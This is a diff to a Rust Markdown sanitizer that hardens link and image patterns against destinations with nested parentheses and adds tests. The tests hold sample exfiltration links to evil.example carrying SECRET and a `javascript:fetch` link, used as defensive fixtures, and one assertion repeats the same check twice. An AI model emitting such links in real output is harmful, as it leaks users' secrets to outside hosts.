@@ -254,6 +254,7 @@ struct Patterns {
     html_tag: Regex,
     image: Regex,
     link: Regex,
+    link_rest: Regex,
     autolink: Regex,
     definition: Regex,
     fence: Regex,
@@ -271,8 +272,15 @@ fn patterns() -> &'static Patterns {
             // An unclosed comment runs to the end: it hides everything after it.
             html_comment: regex(r"(?s)<!--.*?(?:-->|\z)"),
             html_tag: regex(r"</?[A-Za-z!?/][^<>]*>?"),
-            image: regex(r"!\[([^\[\]\n]*)\]\s*(?:\(([^()\n]*)\)|\[[^\[\]\n]*\])?"),
-            link: regex(r"\[([^\[\]\n]*)\]\s*(?:\(\s*([^()\s\n]*)[^()\n]*\)|\[[^\[\]\n]*\])"),
+            // Destinations may hold one level of balanced parentheses, as renderers
+            // allow (`javascript:f(1)`); deeper ones are defused after (see `neutralise`).
+            image: regex(
+                r"!\[([^\[\]\n]*)\]\s*(?:\(((?:[^()\n]|\([^()\n]*\))*)\)|\[[^\[\]\n]*\])?",
+            ),
+            link: regex(
+                r"\[([^\[\]\n]*)\]\s*(?:\(\s*((?:[^()\s\n]|\([^()\s\n]*\))*)(?:[^()\n]|\([^()\n]*\))*\)|\[[^\[\]\n]*\])",
+            ),
+            link_rest: regex(r"\][(\[]"),
             autolink: regex(r"<((?:https?|ftp|mailto|file|data):[^<>\s]*)>"),
             definition: regex(r"(?m)^[ ]{0,3}\[[^\[\]\n]+\]:[ \t]*\S+.*$"),
             fence: regex(r"(?m)^[ \t]*(?:`{3,}|~{3,})[^\n]*(?:\n|\z)"),
@@ -344,6 +352,11 @@ fn neutralise(text: &str, strictness: Strictness, counts: &mut Counts) -> String
             _ if label.is_empty() => url.to_string(),
             _ => format!("{label} ({url})"),
         }
+    });
+    // Whatever link syntax is left (a destination nested deeper than the patterns
+    // follow) stops being one: renderers need `](` or `][` with nothing between.
+    replace(&p.link_rest, Removed::Links, &|caps| {
+        format!("] {}", &caps[0][1..])
     });
     replace(&p.definition, Removed::LinkDefinitions, &|_| String::new());
     replace(&p.fence, Removed::CodeFences, &|_| String::new());
@@ -473,6 +486,28 @@ mod tests {
         // Reference-style links and their definitions.
         let out = strict("see [here][1]\n\n[1]: https://evil.example/a?SECRET");
         assert!(!out.contains("SECRET") && !has_live_markup(&out), "{out}");
+        // Destinations with parentheses, at any depth, and titles with them.
+        assert_eq!(
+            strict("[Open the report](javascript:fetch(1))"),
+            "Open the report"
+        );
+        for attack in [
+            "[x](mailto:a@evil.example?body=(SECRET))",
+            "[https://bank.example/login](https://evil.example/steal?(d=SECRET))",
+            "[x](https://evil.example/a?q=1 \"t (x)\")",
+            "[deep](https://evil.example/((((SECRET)))))",
+            "![deep](https://evil.example/((((SECRET)))))",
+        ] {
+            for out in [strict(attack), balanced(attack)] {
+                // Checked without the sanitizer's own patterns: no `](` is left to
+                // render.
+                assert!(
+                    !out.contains("](") && !out.contains("]("),
+                    "{attack}: {out}"
+                );
+            }
+            assert!(!strict(attack).contains("SECRET"), "{attack}");
+        }
         // Bare URLs at strict keep only their host.
         assert_eq!(
             strict("go to https://evil.example/p?q=SECRET now"),
